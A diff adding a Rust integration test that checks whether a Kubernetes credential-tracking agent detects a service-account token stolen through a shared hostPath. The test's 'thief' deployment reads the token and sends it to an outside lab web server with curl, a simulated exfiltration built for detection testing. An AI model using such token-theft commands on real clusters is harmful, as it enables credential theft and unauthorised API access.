@@ -1,0 +1,239 @@
+//! The chart on a real Kubernetes: a token that its own pod uses, and another pod steals.
+
+use anyhow::{Context as _, Result, ensure};
+use lab::{
+    cluster::{API, Cluster, NODE, NODE_NAME},
+    wait_for,
+    web::WebServer,
+};
+use serde_json::Value;
+use std::{path::Path, time::Duration};
+
+const IMAGE: &str = "lab.example/keytrail:test";
+const CURL: &str = "lab.example/curl:1";
+const LIMIT: Duration = Duration::from_secs(60);
+
+/// A question to the agent of the node, by the way that its user has.
+fn ask(cluster: &Cluster, arguments: &[&str]) -> Result<Value> {
+    let exec = [
+        "exec",
+        "--namespace=keytrail",
+        "daemonset/keytrail",
+        "--",
+        "keytrail",
+    ];
+    let text = cluster.kubectl(&[&exec, arguments, &["--output", "json"]].concat())?;
+    serde_json::from_str(&text).with_context(|| text)
+}
+
+fn findings(cluster: &Cluster) -> Result<Vec<Value>> {
+    let answer = ask(cluster, &["findings"])?;
+    let list = answer.get("findings").unwrap_or(&answer).as_array();
+    Ok(list.cloned().unwrap_or_default())
+}
+
+fn workloads(outside: &WebServer, shared: &Path) -> String {
+    let shared = shared.display();
+    let leak = outside.address;
+    format!(
+        r#"apiVersion: v1
+kind: Namespace
+metadata: {{ name: payments }}
+---
+apiVersion: v1
+kind: ServiceAccount
+metadata: {{ name: api, namespace: payments }}
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {{ name: api, namespace: payments }}
+spec:
+  selector: {{ matchLabels: {{ app: api }} }}
+  template:
+    metadata: {{ labels: {{ app: api }} }}
+    spec:
+      serviceAccountName: api
+      terminationGracePeriodSeconds: 1
+      volumes:
+        - name: token
+          projected: {{ sources: [ {{ serviceAccountToken: {{ path: token, expirationSeconds: 3600 }} }} ] }}
+        - name: shared
+          hostPath: {{ path: {shared} }}
+      containers:
+        - name: api
+          image: {CURL}
+          command: [/bin/sh, -c]
+          args:
+            - |
+              cp /run/secrets/api/token /shared/token
+              while :; do
+                curl -sk -o /dev/null -H "Authorization: Bearer $(cat /run/secrets/api/token)" https://{API}/api/v1/namespaces/payments/pods
+                sleep 1
+              done
+          volumeMounts:
+            - {{ name: token, mountPath: /run/secrets/api }}
+            - {{ name: shared, mountPath: /shared }}
+---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {{ name: thief, namespace: default }}
+spec:
+  selector: {{ matchLabels: {{ app: thief }} }}
+  template:
+    metadata: {{ labels: {{ app: thief }} }}
+    spec:
+      terminationGracePeriodSeconds: 1
+      volumes:
+        - name: shared
+          hostPath: {{ path: {shared} }}
+      containers:
+        - name: shell
+          image: {CURL}
+          command: [/bin/sh, -c]
+          args:
+            - |
+              until test -s /shared/token; do sleep 1; done
+              curl -sk -o /dev/null -H "Authorization: Bearer $(cat /shared/token)" https://{leak}/
+              while :; do sleep 100; done
+          volumeMounts:
+            - {{ name: shared, mountPath: /shared }}
+"#
+    )
+}
+
+fn policy(name: &str, more: &str) -> String {
+    format!(
+        "apiVersion: keytrail.dev/v1alpha1
+kind: CredentialPolicy
+metadata: {{ name: {name} }}
+spec:
+  credentials:
+    - name: {name}-token
+      match: {{ file: /run/secrets/{name}/token }}
+      {more}
+"
+    )
+}
+
+#[test]
+fn the_chart_and_a_stolen_token() -> Result<()> {
+    ensure!(lab::is_root(), "the scenarios need root");
+    let Some(cluster) = Cluster::start()? else {
+        return Ok(());
+    };
+    the_token_is_found(&cluster).with_context(|| {
+        let said = cluster.kubectl(&["logs", "--namespace=keytrail", "daemonset/keytrail"]);
+        format!(
+            "the agent: {}",
+            said.unwrap_or_else(|error| error.to_string())
+        )
+    })
+}
+
+fn the_token_is_found(cluster: &Cluster) -> Result<()> {
+    let containerd = cluster.containerd.as_ref().context("containerd runs")?;
+    containerd.import(IMAGE, &[&lab::agent::binary()?])?;
+    containerd.import(CURL, &[Path::new("/usr/bin/curl")])?;
+    let chart = format!("{}/../deploy/helm/keytrail", env!("CARGO_MANIFEST_DIR"));
+    let (repository, tag) = IMAGE.split_once(':').context("an image")?;
+    cluster.run(
+        "helm",
+        &[
+            "install",
+            "keytrail",
+            &chart,
+            "--namespace=keytrail",
+            "--create-namespace",
+            "--set",
+            &format!("image.repository={repository},image.tag={tag}"),
+        ],
+    )?;
+    cluster.await_pod("keytrail", "app.kubernetes.io/name=keytrail")?;
+    cluster.apply(&policy(
+        "api",
+        "readers: [ { namespace: payments, workload: api, service_account: api } ]",
+    ))?;
+    cluster.apply(&policy("wrong", "readerz: []"))?;
+    let shown = wait_for("the policies have a status", LIMIT, || {
+        let shown = cluster.kubectl(&["get", "credentialpolicies"])?;
+        let is = |name: &str, accepted: &str| {
+            shown.lines().any(|line| {
+                let mut words = line.split_whitespace();
+                words.next() == Some(name) && words.next() == Some(accepted)
+            })
+        };
+        Ok((is("api", "True") && is("wrong", "False")).then_some(shown))
+    })?;
+    ensure!(shown.contains("readerz"), "{shown}");
+    println!("{shown}");
+
+    let outside = WebServer::start(NODE)?;
+    let shared = tempfile::tempdir()?;
+    cluster.apply(&workloads(&outside, shared.path()))?;
+    let api = cluster.await_pod("payments", "app=api")?;
+    let thief = cluster.await_pod("default", "app=thief")?;
+    let theft = wait_for("the theft is found", LIMIT, || {
+        let is_theft = |finding: &Value| {
+            finding["rule"] == "unexpected-hop" && finding["workload"]["pod"] == thief.as_str()
+        };
+        Ok(findings(cluster)?.into_iter().find(is_theft))
+    })?;
+    // The token itself proves that it went out; both are named, each by all of its names.
+    assert_eq!(theft["evidence"], "presented", "{theft:#}");
+    assert_eq!(theft["severity"], "critical");
+    assert_eq!(theft["destination"]["address"], NODE);
+    assert_eq!(
+        theft["destination"]["object"],
+        format!("{NODE_NAME}.node").as_str(),
+        "{theft:#}"
+    );
+    for (field, value) in [
+        ("kind", "deployment"),
+        ("namespace", "default"),
+        ("name", "thief"),
+        ("container", "shell"),
+        ("service_account", "default"),
+    ] {
+        assert_eq!(theft["workload"][field], value, "{theft:#}");
+    }
+    for (field, value) in [
+        ("kind", "deployment"),
+        ("namespace", "payments"),
+        ("workload", "api"),
+        ("pod", api.as_str()),
+        ("service_account", "api"),
+    ] {
+        assert_eq!(theft["credential"]["issued_to"][field], value, "{theft:#}");
+    }
+    let summary = theft["summary"].as_str().unwrap_or_default();
+    let whose = format!("payments/api (deployment, pod {api}, service account api)");
+    ensure!(summary.contains(&whose), "{summary}");
+    // The owner's use of it is proven as well, at the API by its name, and is none of these.
+    let id = theft["credential"]["id"].as_str().unwrap_or_default();
+    let hops = wait_for("the token's own use is seen", LIMIT, || {
+        let answer = ask(cluster, &["query", "where", id])?;
+        let hops = answer["hops"].as_array().cloned().unwrap_or_default();
+        let own = hops
+            .into_iter()
+            .find(|hop| hop["workload"]["pod"] == api.as_str() && hop["evidence"] == "presented");
+        Ok(own)
+    })?;
+    assert_eq!(
+        hops["destination"]["object"], "kubernetes.default.svc",
+        "{hops:#}"
+    );
+    let found = findings(cluster)?;
+    ensure!(
+        !found.iter().any(|finding| {
+            finding["workload"]["pod"] == api.as_str()
+                && (finding["rule"] == "unexpected-hop" || finding["rule"] == "unexpected-reader")
+        }),
+        "{found:#?}"
+    );
+    let nodes = cluster.get(&["nodes", NODE_NAME])?;
+    println!(
+        "Kubernetes {}: {summary}",
+        nodes["status"]["nodeInfo"]["kubeletVersion"]
+    );
+    Ok(())
+}
